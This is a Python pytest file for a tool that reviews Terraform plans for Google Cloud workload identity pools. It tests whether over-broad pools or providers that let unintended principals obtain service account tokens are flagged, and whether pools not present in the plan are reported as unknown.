@pytest.mark.parametrize("case", sorted(POOLS))
def test_a_pool_principal_is_judged_by_the_providers_of_its_pool(plans, tmp_path, case, form):
    mutate, reader = POOLS[case]
    rep = review(_plan(mutate(copy.deepcopy(plans["sandbox"])), tmp_path, form, None, None)[0])
    assert rep["ok"] is False and reader in rep["unexpected_readers"], (rep["unexpected_readers"],
                                                                      rep["unresolved"])
    row = next(r for r in rep["token_readers"] if r["principal"] == reader)
    assert row["kind"] == "federates" and "no attribute_condition" in row["how"] and row["via"]
    member = next(r for r in rep["token_readers"] if r["principal"] == row["via"])      # every provider is shown
    assert reader.removeprefix("resource:") in member["how"] and "admits through" in member["how"]


HARMLESS_POOLS = {
    "CI's pool with one GitHub provider narrowed to its organization": lambda d: _pool(_ci_submits(d)),
    "a provider added that maps nothing the member selects on": lambda d: _pool(
        _pool(_ci_submits(d)), condition=None, name="other", mapping={"google.subject": "assertion.sub"}),
    "a provider of a private issuer": lambda d: _pool(
        _pool(_ci_submits(d)), condition=None, name="corp", issuer="https://idp.acme.example"),
    "an open pool bound to an account that reaches nothing": lambda d: _pool(add(
        add(d, "google_service_account", "web", {"account_id": "web-frontend", "project": "acme-hfgate-sbx"}),
        "google_service_account_iam_member", "web", {
            "service_account_id": "${google_service_account.web.name}", "role": "roles/iam.workloadIdentityUser",
            "member": PSET.split("/attribute.")[0] + "/*"}), condition=None),
}


@pytest.mark.parametrize("form", ["synth", "plan"])
@pytest.mark.parametrize("case", sorted(HARMLESS_POOLS))
def test_pools_that_admit_only_whom_they_should_pass(plans, tmp_path, case, form):
    rep = review(_plan(HARMLESS_POOLS[case](copy.deepcopy(plans["sandbox"])), tmp_path, form, None, None)[0])
    assert _nothing_reaches_a_token(rep), (rep["unexpected_readers"], rep["unresolved"],
                                           [p["id"] for p in rep["policies"] if not p["passed"]])


def test_a_pool_not_in_the_plan_is_unknown(plans, tmp_path):
    d = on_sa(copy.deepcopy(plans["sandbox"]), "trainer", "roles/iam.workloadIdentityUser", POOL)
    rep = review(_plan(d, tmp_path, "synth", None, None)[0])
    entry = next(u for u in rep["unknowns"] if u["address"] == "google_service_account_iam_member.x")
    assert "pool ci is not in the plan" in entry["why"] and not entry["accepted"]


def test_a_configured_submitter_of_a_pool_outside_the_plan_is_shown_as_accepted_by_the_configuration(plans,
                                                                                                    tmp_path):
    rep = review(_plan(_ci_submits(copy.deepcopy(plans["sandbox"])), tmp_path, "synth", None, None)[0])
    assert _nothing_reaches_a_token(rep), (rep["unexpected_readers"], rep["unresolved"])
    entry = next(u for u in rep["unknowns"] if u["address"] == "google_service_account_iam_member.x")
    assert "not in the plan" in entry["why"] and "submitters" in entry["accepted"]


def test_a_pool_of_the_same_name_in_another_project_is_not_the_members_pool(plans, tmp_path):
    """The member names its pool's project by number: a clean pool `ci` in this project (number 555) says nothing
    of pool `ci` in project 123456789."""
    d = _pool(on_sa(copy.deepcopy(plans["sandbox"]), "trainer", "roles/iam.workloadIdentityUser", PSET))
    d["output"]["project_number"] = {"value": "555"}
    rep = review(_plan(d, tmp_path, "synth", None, None)[0])
    entry = next(u for u in rep["unknowns"] if u["address"] == "google_service_account_iam_member.x")
    assert "pool ci is not in the plan" in entry["why"]


@pytest.mark.parametrize("form", ["synth", "plan"])
def test_a_provider_whose_issuer_is_known_only_after_apply_is_unknown(plans, tmp_path, form):
    d = _pool(_ci_submits(copy.deepcopy(plans["sandbox"])), condition=None, issuer="${var.issuer}")
    rep = review(_plan(d, tmp_path, form, None, None)[0])
    assert "google_iam_workload_identity_pool_provider.gh" in rep["unresolved"], rep["unresolved"]


def test_a_provider_whose_pool_is_not_known_offline_is_unknown(plans, tmp_path):
    d = _pool(_ci_submits(copy.deepcopy(plans["sandbox"])))
    d["resource"]["google_iam_workload_identity_pool_provider"]["gh"]["workload_identity_pool_id"] = "${var.pool}"
    rep = review(_plan(d, tmp_path, "synth", None, None)[0])
    assert "google_iam_workload_identity_pool_provider.gh" in rep["unresolved"]
